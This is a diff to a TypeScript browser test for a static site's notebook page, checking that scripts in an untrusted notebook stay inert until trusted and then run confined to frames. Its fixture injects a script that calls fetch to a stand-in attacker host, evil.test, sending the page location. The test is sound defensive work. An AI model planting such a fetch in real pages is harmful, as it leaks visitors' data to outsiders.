@@ -170,7 +170,7 @@ describe("the notebook page of a static site", function () {
   /** A notebook from somewhere else, with outputs that want to run and claim that they may. */
   function hostile(): string {
     const foreign = JSON.parse(
-      notebookText(["1", "html <script>window.own = 1</script>"], "tslab"),
+      notebookText(["1", "html <p>mine</p><script>window.own = String(origin)</script>"], "tslab"),
     );
     const script = "window.evil = 1; fetch('http://evil.test/' + location.href)";
     for (const cell of foreign.cells)
@@ -195,23 +195,38 @@ describe("the notebook page of a static site", function () {
     return JSON.stringify(foreign);
   }
 
-  it("leaves a foreign notebook still until it is trusted; what is run here is live, also after a reload", async () => {
+  it("leaves a foreign notebook still until it is trusted; what is run here is live in a frame, also after a reload", async () => {
     const page = await site.open(LESSON);
+    /** What each frame has of a name: a frame reaches no other one, nor the page. */
+    const inFrames = (name: string) =>
+      Promise.all(
+        page.page
+          .frames()
+          .slice(1)
+          .map((frame) => frame.evaluate<unknown>(`window.${name} ?? null`).catch(() => undefined)),
+      );
+    const until = async (isSo: () => Promise<boolean>) => {
+      for (let i = 0; i < 200 && !(await isSo()); i++) await sleep(50);
+      expect(await isSo()).to.equal(true);
+    };
     await choose(page, "foreign.ipynb", hostile());
     await page.wait("document.querySelectorAll('.jp-OutputArea b').length === 2");
+    const words = "This output brings a script";
+    await page.wait(`document.querySelector('.jp-OutputArea').innerText.includes("${words}")`);
     await sleep(1500);
-    expect(await page.page.evaluate("window.evil ?? null")).to.equal(null);
+    expect(await inFrames("evil")).to.deep.equal([]);
     await page.run(1);
-    await page.wait("window.own === 1");
+    await until(async () => (await inFrames("own"))[0] === "null");
     await page.saved();
     await page.page.reload();
     await page.ready();
-    await page.wait("window.own === 1");
-    expect(await page.page.evaluate("window.evil ?? null")).to.equal(null);
+    await until(async () => (await inFrames("own"))[0] === "null");
     expect(await page.page.evaluate("document.getElementById('trust').hidden")).to.equal(false);
     await page.press("trust");
     await page.answer("Trust");
-    await page.wait("window.evil === 1");
+    await until(async () => (await inFrames("evil")).includes(1));
+    for (const name of ["own", "evil"])
+      expect(await page.page.evaluate(`window.${name} ?? null`), name).to.equal(null);
     await sleep(500);
     // Trusted or not: the page's policy lets nobody hear of it.
     expect(site.heardElsewhere).to.deep.equal([]);
